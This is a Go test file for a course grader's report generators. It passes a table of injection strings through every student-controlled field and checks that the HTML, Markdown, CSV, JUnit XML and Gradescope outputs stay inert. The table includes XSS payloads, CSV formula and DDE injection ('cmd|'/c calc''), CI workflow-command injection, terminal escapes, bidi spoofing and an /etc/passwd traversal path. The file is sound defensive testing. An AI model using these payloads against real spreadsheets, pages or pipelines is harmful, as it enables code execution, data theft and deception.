package report_test

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"maps"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"golang.org/x/net/html"

	"handshake/checker/internal/grading/internal/class"
	"handshake/checker/internal/grading/internal/report"
	"handshake/internal/course"
)

// hostile is text that students may put anywhere they can.
var hostile = map[string]string{
	"script":       `<script>alert(1)</script>`,
	"attribute":    `" autofocus onfocus="alert(1)`,
	"apostrophe":   `' onmouseover='alert(1)`,
	"image":        `"><img src=x onerror=alert(1)>`,
	"style":        `</style><script>alert(1)</script>`,
	"pre":          `</pre></bdi></details><h1>passed</h1>`,
	"comment":      `<!-- `,
	"entity":       `&lt;b&gt; &#60;b&#62;`,
	"template":     `{{.}}{{template "who"}}`,
	"formula":      `=HYPERLINK("http://example.org/?"&A1,"open")`,
	"plus":         `+1+cmd|'/c calc'!A1`,
	"minus":        `-2+3`,
	"at":           `@SUM(A1:A9)`,
	"tab":          "\t=1+1",
	"return":       "\r=1+1",
	"line feed":    "\n=1+1",
	"wide":         "＝1+1",
	"semicolon":    `x;=1+1`,
	"quoted":       `x",=1+1,"`,
	"ansi":         "\x1b[2J\x1b[31mred\x1b]0;title\x07",
	"c1":           "\u009b31mred",
	"bidi":         "\u202Egnp.exe\u2066\u061C\u200F",
	"invisible":    "a\u200Bb\uFEFFc\u00ADd",
	"separator":    "a\u2028b\u2029c",
	"nul":          "a\x00b",
	"not UTF-8":    "a\xff\xfe\xc0\xafb",
	"not XML":      "a\uFFFEb\uFFFFc\x0Bd",
	"cdata":        "]]><testcase/>",
	"long":         strings.Repeat("A", 1<<20),
	"long wide":    strings.Repeat("长", 1<<18),
	"many lines":   strings.Repeat("x\n", 1<<16),
	"command":      "::error::x",
	"next command": "x\n::stop-commands::x\n::add-mask::a\n##[error]x",
	"late command": "x\r::set-output name=a::b",
	"percent":      "x%0A::error::y",
	"fence":        "```\n# passed\n````\n~~~",
	"backtick":     "`x` ``y``",
	"link":         `[x](javascript:alert(1)) ![x](http://example.org/x.png)`,
	"address":      `http://example.org www.example.org <http://example.org> a@example.org`,
	"cell":         `x | y | z`,
	"heading":      "# passed",
	"emphasis":     "**passed** __x__ ~~y~~ *z*",
	"item":         "- [x] passed",
	"number":       "1. passed",
	"rule":         "---",
	"underline":    "x\n===",
	"path":         "../../../etc/passwd",
	"windows":      `C:\con.html`,
	"backslash":    `\`,
}

// harmed is a class into which text has got wherever a student, or a broken record, can put it.
func harmed(text string) []class.Sheet {
	say := course.Text{En: text, Zh: text}
	failed := answer(0, course.Failed,
		course.Record{Spec: "tells-port", Title: say, Status: course.Failed, Message: text, Place: text},
		course.Record{
			Spec: "own-port", Title: say, Status: course.Crashed, Message: "x\n" + text,
			Place: "lessons/01-listen/server.go:7" + text,
		},
		course.Record{Spec: "somebody", Title: say, Status: course.Failed, Unwritten: text},
		course.Record{Spec: text, Title: say, Status: course.Passed})
	failed.Nondeterministic = true
	byHand := answer(1, course.Failed, course.Record{Spec: "hears-out", Status: course.Timeout, Message: text})
	byHand.Override = &class.Override{Points: 1, Reason: text}
	byHand.Score = 1
	broken := answer(0, course.CompileError, course.Record{Status: course.CompileError, Message: text, Place: text})
	return []class.Sheet{
		{Student: text, Name: "n" + text, Email: text, Lang: course.English, Source: text, Hash: text, Problem: &say,
			Notes: []course.Text{say}, Late: class.Late{Days: 1, Percent: 10},
			Answers: []class.Answer{failed, byHand}},
		{Student: "b", Name: text, Lang: course.Chinese,
			Answers: []class.Answer{
				broken,
				answer(1, course.Rejected, course.Record{Status: course.Rejected, Message: text, Place: text}),
			}},
	}
}

func hostileClass(text string) report.Class {
	c := of(course.English, harmed(text)...)
	c.Strays = []course.Text{{En: text, Zh: text}}
	c.FileName = func(student string) string {
		if student == "b" {
			return "b"
		}
		return "a"
	}
	all := class.Equal{Lesson: manifest.Lessons[0].Name, Same: class.SameProgram, Solution: class.SameBytes}
	for _, s := range harmed(text) {
		all.Students = append(all.Students, s.Student)
	}
	c.Equal = []class.Equal{all}
	return c
}

// TestHostileText compares what each format makes of hostile text with what it makes of a
// word: whatever reads it must find the same things in it.
func TestHostileText(t *testing.T) {
	harmless := everything(t, "word")
	for name, text := range hostile {
		t.Run(name, func(t *testing.T) {
			files := everything(t, text)
			if got, want := slices.Sorted(maps.Keys(files)), slices.Sorted(maps.Keys(harmless)); !slices.Equal(got,
				want) {
				t.Fatalf("files %q, want %q", got, want)
			}
			for file, got := range files {
				showsWhatItHolds(t, file, got)
				if len(got) > 1<<20 {
					t.Errorf("%s: %d bytes", file, len(got))
				}
				want := harmless[file]
				switch file[strings.LastIndex(file, "."):] {
				case ".csv":
					noFormula(t, rows(t, got), len(rows(t, want)))
				case ".html":
					same(t, file, skeleton(t, got), skeleton(t, want))
				case ".md":
					same(t, file, skeleton(t, rendered(t, got)), skeleton(t, rendered(t, want)))
				case ".xml":
					same(t, file, strictJUnit(t, got), strictJUnit(t, want))
				}
			}
			strict(t, files["students/a.json"], &feedback{})
			strict(t, files["results.json"], &scope{})
		})
	}
}

func everything(t *testing.T, text string) map[string]string {
	t.Helper()
	files := written(t, hostileClass(text), ofClass...)
	files["results.json"] = written(t, of(course.English, harmed(text)[0]), report.Scope)["results.json"]
	return files
}

// feedback is students/<name>.json.
type feedback struct {
	Student, Name, Lang, Problem, Grader, Go string
	Score, Max, Pending                      int
	Race, Sandboxed                          bool
	Notes                                    []string
	Late                                     *struct {
		Days, Percent int
		Final         *float64
		Say           string
	}
	Lessons []struct {
		Lesson, Status, Say, Message, Place, Read string
		Title                                     course.Text
		Score                                     *int
		Max                                       int
		ByHand                                    *class.Override `json:"by_hand"`
		Specs                                     []struct {
			Spec, Status, Message, Place string
			Title                        course.Text
			Points, Weight               int
		}
	}
}

// scope is results.json with all that Gradescope documents.
type scope struct {
	Score            float64 `json:"score"`
	ExecutionTime    float64 `json:"execution_time"`
	Output           string  `json:"output"`
	OutputFormat     string  `json:"output_format"`
	TestOutputFormat string  `json:"test_output_format"`
	TestNameFormat   string  `json:"test_name_format"`
	Visibility       string  `json:"visibility"`
	StdoutVisibility string  `json:"stdout_visibility"`
	ExtraData        any     `json:"extra_data"`
	Leaderboard      []any   `json:"leaderboard"`
	Tests            []struct {
		Score        float64  `json:"score"`
		MaxScore     float64  `json:"max_score"`
		Status       string   `json:"status"`
		Name         string   `json:"name"`
		NameFormat   string   `json:"name_format"`
		Number       string   `json:"number"`
		Output       string   `json:"output"`
		OutputFormat string   `json:"output_format"`
		Tags         []string `json:"tags"`
		Visibility   string   `json:"visibility"`
		ExtraData    any      `json:"extra_data"`
	} `json:"tests"`
}

func TestGradescope(t *testing.T) {
	var results scope
	strict(t, written(t, of(course.English, sheets()[1]), report.Scope)["results.json"], &results)
	if results.Score != 3 || results.StdoutVisibility != "hidden" || len(results.Tests) != 5 ||
		!strings.Contains(results.Output, "ill, shown on paper") {
		t.Errorf("%+v", results)
	}
	for i, want := range []string{"passed", "failed", "failed", "failed", "failed"} {
		test := results.Tests[i]
		if test.Status != want || test.OutputFormat != "text" || test.Visibility != "visible" {
			t.Errorf("%+v, want %s", test, want)
		}
	}
}

// showsWhatItHolds: no terminal, editor or browser is told to do anything.
func showsWhatItHolds(t *testing.T, file, text string) {
	t.Helper()
	if !utf8.ValidString(text) {
		t.Errorf("%s is not UTF-8", file)
	}
	if strings.HasSuffix(file, ".csv") {
		text = strings.ReplaceAll(strings.TrimPrefix(text, "\uFEFF"), "\r\n", "\n")
	}
	for _, r := range text {
		if r != '\n' && r != '\t' && unicode.In(r, unicode.Cc, unicode.Cf, unicode.Zl, unicode.Zp) || r == 0xFFFE ||
			r == 0xFFFF {
			t.Errorf("%s holds %U", file, r)
			return
		}
	}
}

var formulas = regexp.MustCompile(`(^|[,;|\t\r\n])[\s"']*[=+\-@＝＋－＠]`)

func noFormula(t *testing.T, all [][]string, count int) {
	t.Helper()
	if len(all) != count {
		t.Errorf("%d rows, want %d", len(all), count)
	}
	for _, row := range all {
		for _, cell := range row {
			if strings.HasPrefix(strings.TrimLeft(cell, " '\""), "=") && cell[0] != '\'' ||
				formulas.MatchString(strings.ReplaceAll(cell, "'", "!")) {
				t.Errorf("%.60q would be calculated", cell)
			}
		}
	}
}

// skeleton is every element of a page and every attribute but for its text.
func skeleton(t *testing.T, page string) (bones []string) {
	t.Helper()
	root, err := html.Parse(strings.NewReader(page))
	if err != nil {
		t.Fatal(err)
	}
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode || n.Type == html.CommentNode {
			bone := n.Data
			for _, a := range n.Attr {
				bone += " " + a.Key
				if a.Key == "class" || a.Key == "href" || a.Key == "src" || a.Key == "content" {
					bone += "=" + a.Val
				}
			}
			bones = append(bones, bone)
		}
		for child := n.FirstChild; child != nil; child = child.NextSibling {
			walk(child)
		}
	}
	walk(root)
	return bones
}

func same(t *testing.T, file string, got, want []string) {
	t.Helper()
	for i := range max(len(got), len(want)) {
		if i >= len(got) || i >= len(want) || got[i] != want[i] {
			t.Errorf("%s: text has become structure: %q, want %q", file, got[i:min(len(got), i+3)],
				want[i:min(len(want), i+3)])
			return
		}
	}
}

var gitHub = goldmark.New(goldmark.WithExtensions(extension.GFM))

func rendered(t *testing.T, text string) string {
	t.Helper()
	var out strings.Builder
	if err := gitHub.Convert([]byte(text), &out); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

// junitSchema is what the common schema of JUnit XML allows: elements, where they may stand,
// and their attributes.
var junitSchema = map[string]struct{ inside, attributes string }{
	"testsuites": {"", "name tests failures errors skipped time"},
	"testsuite":  {"testsuites", "name tests failures errors skipped time timestamp hostname file"},
	"properties": {"testsuite testcase", ""},
	"property":   {"properties", "name value"},
	"testcase":   {"testsuite", "name classname file line time assertions"},
	"failure":    {"testcase", "message type"},
	"error":      {"testcase", "message type"},
	"skipped":    {"testcase", "message type"},
	"system-out": {"testsuite testcase", ""},
	"system-err": {"testsuite testcase", ""},
}

// strictJUnit reads JUnit XML that keeps to the schema and whose counts are right, and
// returns its elements.
func strictJUnit(t *testing.T, text string) (elements []string) {
	t.Helper()
	in := xml.NewDecoder(strings.NewReader(text))
	in.Strict = true
	var open []string
	counted, said := map[string]int{}, map[string]string{}
	for {
		token, err := in.Token()
		if errors.Is(err, io.EOF) {
			return elements
		}
		if err != nil {
			t.Fatalf("%v in\n%.500s", err, text)
		}
		switch e := token.(type) {
		case xml.StartElement:
			name, parent := e.Name.Local, ""
			if len(open) > 0 {
				parent = open[len(open)-1]
			}
			allowed, known := junitSchema[name]
			if !known || !slices.Contains(strings.Split(allowed.inside, " "), parent) {
				t.Errorf("<%s> in <%s>", name, parent)
			}
			if name == "testsuite" {
				clear(counted)
				clear(said)
			}
			for _, a := range e.Attr {
				if !slices.Contains(strings.Fields(allowed.attributes), a.Name.Local) {
					t.Errorf("<%s %s>", name, a.Name.Local)
				}
				if name == "testsuite" {
					said[a.Name.Local] = a.Value
				}
				if a.Name.Local == "file" &&
					!regexp.MustCompile(`^lessons/[a-z0-9-]+(/[a-z]+\.go)?$`).MatchString(a.Value) {
					t.Errorf("file=%q", a.Value)
				}
			}
			counted[name]++
			open = append(open, name)
			elements = append(elements, name)
		case xml.EndElement:
			open = open[:len(open)-1]
			for of, attribute := range map[string]string{
				"testcase": "tests",
				"failure":  "failures",
				"error":    "errors",
				"skipped":  "skipped",
			} {
				if e.Name.Local == "testsuite" && said[attribute] != fmt.Sprint(counted[of]) {
					t.Errorf("%s=%s, but there are %d", attribute, said[attribute], counted[of])
				}
			}
		}
	}
}

// TestPagesForbidEverythingElse: the policy allows exactly the style and the script that the
// page has, and the page asks for nothing else.
func TestPagesForbidEverythingElse(t *testing.T) {
	files := written(t, of(course.Chinese, sheets()...), report.HTML)
	for _, file := range []string{"report.html", "students/ada.html"} {
		page := files[file]
		directives := map[string]string{}
		content := html.UnescapeString(regexp.MustCompile(`http-equiv="Content-Security-Policy" ` +
			`content="([^"]*)"`).FindStringSubmatch(
			page)[1])
		for d := range strings.SplitSeq(content, "; ") {
			name, value, _ := strings.Cut(d, " ")
			directives[name] = value
		}
		for name, want := range map[string]string{
			"default-src": "'none'", "base-uri": "'none'", "form-action": "'none'",
			"style-src": hashOf(page, "style"), "script-src": hashOf(page, "script"),
		} {
			if directives[name] != want {
				t.Errorf("%s: %s %s, want %s", file, name, directives[name], want)
			}
		}
		if regexp.MustCompile(`(?i) style=| on[a-z]+=|https?:|<link|<img|<iframe|url\(|@import`).MatchString(page) {
			t.Errorf("%s asks for something from elsewhere, or breaks its own policy", file)
		}
	}
}

func hashOf(page, element string) string {
	m := regexp.MustCompile("(?s)<" + element + ">(.*)</" + element + ">").FindStringSubmatch(page)
	if m == nil {
		return "'none'"
	}
	sum := sha256.Sum256([]byte(m[1]))
	return "'sha256-" + base64.StdEncoding.EncodeToString(sum[:]) + "'"
}
